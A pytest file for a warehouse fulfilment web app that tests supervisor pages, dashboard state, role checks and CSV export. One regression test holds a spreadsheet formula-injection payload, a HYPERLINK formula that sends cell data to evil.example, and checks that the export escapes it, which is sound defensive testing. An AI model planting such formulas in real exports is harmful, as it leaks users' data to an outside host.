"""The supervisor's pages without a browser: orders list and detail, the dashboard's first paint
and its JSON snapshot, role checks; on SQLite and PostgreSQL."""

from __future__ import annotations

import datetime as dt
import re

import pytest

from core.actors import Actor
from core.db import unit_of_work, utcnow
from core.exception_queue import ExceptionReason, FloorException
from floor.fulfilment import order_views as queries
from floor.fulfilment.waves import planning as waves
from floor.fulfilment.waves.planning import RuleSpec
from tests.dash.conftest import DUE_IN
from tests.factories import OMS_AUTH, add_order, login, order_payload, page_csrf
from web.pages import duration

HOUR = dt.timedelta(hours=1)


def post_orders(client, *ids: str, sku: str = "SKU-00010") -> None:
    for ext in ids:
        r = client.post(
            "/api/v1/orders", json=order_payload(ext, [(sku, 1)], due_in=DUE_IN), headers=OMS_AUTH
        )
        assert r.status_code == 201, r.get_data(as_text=True)


def rows(html: str) -> list[str]:
    return re.findall(r'<tr data-order="([^"]+)"', html)


def test_orders_page_lists_newest_first_filters_by_status_and_pages(client, sessions):
    post_orders(client, "P-1", "P-2", "P-3")
    post_orders(client, "P-4", sku="SKU-00299")
    login(client, username="sam", password="supervisor-demo")
    html = client.get("/orders").get_data(as_text=True)
    assert rows(html) == ["P-4", "P-3", "P-2", "P-1"]
    assert "ups / ground" in html

    with unit_of_work(sessions) as s:
        page = queries.recent_orders(s, limit=2)
        assert [r["external_id"] for r in page.rows] == ["P-4", "P-3"]
        assert page.rows[0]["ordered"] == page.rows[0]["reserved"] == 1
        older = queries.recent_orders(s, limit=2, before=page.next_before)
        assert [r["external_id"] for r in older.rows] == ["P-2", "P-1"]
        assert older.next_before is None
        assert queries.order_counts(s)["allocated"] == 4

    assert rows(client.get("/orders?status=allocated").get_data(as_text=True))[0] == "P-4"
    assert rows(client.get("/orders?status=picking").get_data(as_text=True)) == []
    # An unknown status shows everything instead of failing.
    assert len(rows(client.get("/orders?status=nonsense").get_data(as_text=True))) == 4


def test_order_page_shows_lines_reservations_and_events(client):
    post_orders(client, "D-1")
    login(client, username="sam", password="supervisor-demo")
    html = client.get("/orders/D-1").get_data(as_text=True)
    assert "Order D-1" in html
    assert re.search(r"SKU-00010.*?[A-L]-\d\d-[AB]-1: 0/1", html, re.S)  # reserved at a face
    assert html.index("order.received") < html.index("order.allocated")
    assert client.get("/orders/NOPE").status_code == 404


def test_dashboard_first_paint_and_snapshot(client, sessions):
    post_orders(client, "S-1", "S-2")
    with unit_of_work(sessions) as s:
        s.add(FloorException(reason=ExceptionReason.short_pick, message="SKU-00010 short 1"))
    login(client, username="sam", password="supervisor-demo")
    token = page_csrf(client)
    client.post("/waves", json={"rule_id": 1}, headers={"X-CSRFToken": token})

    html = client.get("/dashboard").get_data(as_text=True)
    assert re.search(r'data-status="allocated"><a [^>]+><b>0</b>', html)
    assert re.search(r'data-status="waved"><a [^>]+><b>2</b>', html)
    assert re.search(r"0 / [12] tasks · 0 short · 0 / [12] units · 0.0 %", html)
    assert re.search(r'class="countdown" data-seconds="7\d{3}">1:5\d:\d\d<', html)
    assert "SKU-00010 short 1" in html and 'action="/dashboard/exceptions/' in html

    state = client.get("/dashboard/state").get_json()
    assert state["counts"]["waved"] == 2 and state["counts"]["received"] == 0
    assert [o["external_id"] for o in state["recent_orders"]] == ["S-2", "S-1"]
    assert state["waves"][0]["status"] == "planned"
    assert [e["message"] for e in state["exceptions"]] == ["SKU-00010 short 1"]

    # Without JS the resolve form posts and comes back to the dashboard.
    exc_id = state["exceptions"][0]["id"]
    r = client.post(
        f"/dashboard/exceptions/{exc_id}/resolve",
        data={"csrf_token": token, "resolution": "found it", "next": "/dashboard"},
    )
    assert r.status_code == 302 and r.headers["Location"].endswith("/dashboard")
    assert client.get("/dashboard/state").get_json()["exceptions"] == []


@pytest.mark.parametrize("path", ["/dashboard", "/dashboard/state", "/orders", "/orders/X"])
def test_supervisor_pages_refuse_pickers_and_strangers(client, path):
    assert client.get(path, headers={"Accept": "application/json"}).status_code == 401
    login(client, badge="BADGE-PICKER-1")
    assert client.get(path).status_code == 403


def test_duration_reads_like_the_countdown():
    assert duration(3909) == "1:05:09"
    assert duration(-65) == "late 0:01:05"
    assert duration(86400 * 3 + 3600 * 4) == "3 d 4 h"
    assert duration(None) == ""


def test_a_wave_past_its_cut_off_is_shown_late(client, sessions):
    with unit_of_work(sessions) as s:  # the OMS refuses a ship_by in the past; the floor lags
        add_order(s, [("SKU-00010", 1)], external_id="LATE-1", ship_by=utcnow() - HOUR)
        waves.plan_waves(s, RuleSpec(name="now"), Actor.system())
    login(client, username="sam", password="supervisor-demo")
    html = client.get("/dashboard").get_data(as_text=True)
    assert re.search(r'class="countdown late" data-seconds="-3\d{3}">late 1:00:\d\d<', html)


def test_the_people_export_does_not_hand_excel_a_formula(client, sessions):
    """A picker named ``=HYPERLINK(...)`` (the admin user import takes any 1-60 characters) was
    written as-is into people.csv: a live formula once the supervisor opened it in Excel."""
    import csv
    import io

    from core.accounts import create_user
    from core.users import Role

    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    with unit_of_work(sessions) as s:
        create_user(s, evil, Role.picker, badge="BADGE-EVIL-1", display_name="-2+3")
    login(client, username="sam", password="supervisor-demo")
    text = client.get("/dashboard/people.csv").get_data(as_text=True)
    row = next(r for r in csv.reader(io.StringIO(text)) if r and r[0].endswith(evil))
    assert row[:2] == ["'" + evil, "'-2+3"]


@pytest.mark.parametrize("path", ["/dashboard/figures", "/dashboard/figures.csv"])
def test_the_day_of_the_figures_is_a_date_or_a_clear_refusal(client, path):
    """``?day=9999-12-31`` was a 500 (no day after it to end the range) and a typo
    (``2026-13-40``) answered today's figures; both are a 422 naming ``day`` now."""
    login(client, username="sam", password="supervisor-demo")
    assert client.get(path, query_string={"day": "2026-03-02"}).status_code == 200
    for bad in ("9999-12-31", "2026-13-40", "yesterday"):
        r = client.get(path, query_string={"day": bad})
        assert r.status_code == 422, (bad, r.status_code)
        [error] = r.get_json()["errors"]
        assert (error["code"], error["field"]) == ("invalid_datetime", "day")
